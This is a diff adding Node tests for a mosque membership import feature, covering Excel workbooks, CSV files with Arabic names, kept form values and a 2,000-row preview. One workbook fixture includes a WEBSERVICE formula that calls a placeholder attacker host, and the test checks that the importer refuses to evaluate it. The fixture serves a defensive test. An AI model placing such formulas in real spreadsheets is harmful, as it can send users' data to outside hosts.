@@ -4,6 +4,8 @@ import { describe, test } from 'node:test'
 import { sql } from '../../../src/db/sql.ts'
 import { useMinaret } from '../../support/minaret.ts'
 import { hiddenFieldsOf, type Person, type Shown } from '../../support/person.ts'
+import { sendForm } from '../send-form.ts'
+import { xlsxFile } from '../timetables/xlsx-file.ts'
 import { type Masjid, makeMasjid, makeStaff, visitAs } from '../use-staff.ts'
 
 interface Row {
@@ -154,6 +156,71 @@ describe('people who agreed', () => {
     const huge = await person.post(`${base}/import`, { list: 'x'.repeat(1024 * 1024) })
     assert.equal(huge.status, 413)
     assert.deepEqual(await rowsAt(masjid), [])
+  })
+
+  test('come as a workbook: below a title, with dates and numbers as Excel stores them, formulas by their results', async () => {
+    const { masjid, person, base } = await enter()
+    const content = xlsxFile({
+      sheets: {
+        Members: [
+          ['Masjid members 2026'],
+          ['First name', 'Surname', 'Mobile', 'Joined', 'Household'],
+          ['Aisha', 'Noor, the elder', 442079460000, { date: 45292 }, 'Noor; family'],
+          [{ formula: 'A3', result: 'Bilal' }, 'Khan', '', '', ''],
+          [{ formula: 'WEBSERVICE("https://evil.test")' }, 'Nobody', '', '', ''],
+        ],
+      },
+    })
+    const shown = await sendForm(person, {
+      page: `${base}/import`,
+      fields: { ...evidence, list: '' },
+      file: { name: 'members.xlsx', content },
+    })
+    assert.equal(shown.status, 200, shown.text)
+    assert.ok(shown.text.includes('A cell holds a formula without a result'))
+    assert.equal((await publish(person, base, shown)).location, `${base}?done=imported`)
+    assert.deepEqual(
+      (await rowsAt(masjid)).map(row => [row.given_name, row.phone, row.household, row.records]),
+      [
+        ['Aisha', '442079460000', 'Noor; family', 1],
+        ['Bilal', null, null, 1],
+      ],
+    )
+    const [aisha] = await database().query<{ joined: string; family_name: string }>(
+      sql`select joined_on::text as joined, family_name from public.ua_members where masjid_id = ${masjid.id} and given_name = 'Aisha'`,
+    )
+    assert.deepEqual(aisha, { joined: '2024-01-01', family_name: 'Noor, the elder' })
+  })
+
+  test('come as a CSV file with evidence or not at all, and what was in it is kept in the form', async () => {
+    const { masjid, person, base } = await enter()
+    const file = { name: 'people.csv', content: 'الاسم الأول;البريد الإلكتروني\nعائشة;aisha@example.org\n' }
+    const bare = await sendForm(person, { page: `${base}/import`, file })
+    assert.equal(bare.status, 422)
+    assert.ok(bare.text.includes('href="#given_how"') && bare.text.includes('عائشة'))
+    const broken = { name: 'people.xls', content: Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 1, 2]) }
+    const old = await sendForm(person, { page: `${base}/import`, fields: { ...evidence, list: 'Kept' }, file: broken })
+    assert.equal(old.status, 422)
+    assert.ok(old.text.includes('href="#sheet"') && old.text.includes('.xls') && old.text.includes('Kept'))
+    assert.deepEqual(await rowsAt(masjid), [])
+    const shown = await sendForm(person, { page: `${base}/import`, fields: evidence, file })
+    await publish(person, base, shown)
+    assert.deepEqual(
+      (await rowsAt(masjid)).map(row => [row.given_name, row.email]),
+      [['عائشة', 'aisha@example.org']],
+    )
+  })
+
+  test('of 2,000 Arabic lines go through the preview, which sends them all again', async () => {
+    const { masjid, person, base } = await enter()
+    const lines = Array.from({ length: 1999 }, (_, index) => `عبد الرحمن بن محمد ${index},person${index}@example.org`)
+    const file = { name: 'all.csv', content: ['الاسم,البريد', ...lines].join('\n') }
+    const shown = await sendForm(person, { page: `${base}/import`, fields: evidence, file })
+    const sent = new FormData()
+    for (const [name, value] of Object.entries(hiddenFieldsOf(shown.text, `${base}/import`))) sent.set(name, value)
+    sent.set('step', 'publish')
+    assert.equal((await person.send(`${base}/import`, sent)).location, `${base}?done=imported`)
+    assert.equal((await rowsAt(masjid)).length, 1999)
   })
 
   test('are looked at again if something changed between preview and import', async () => {
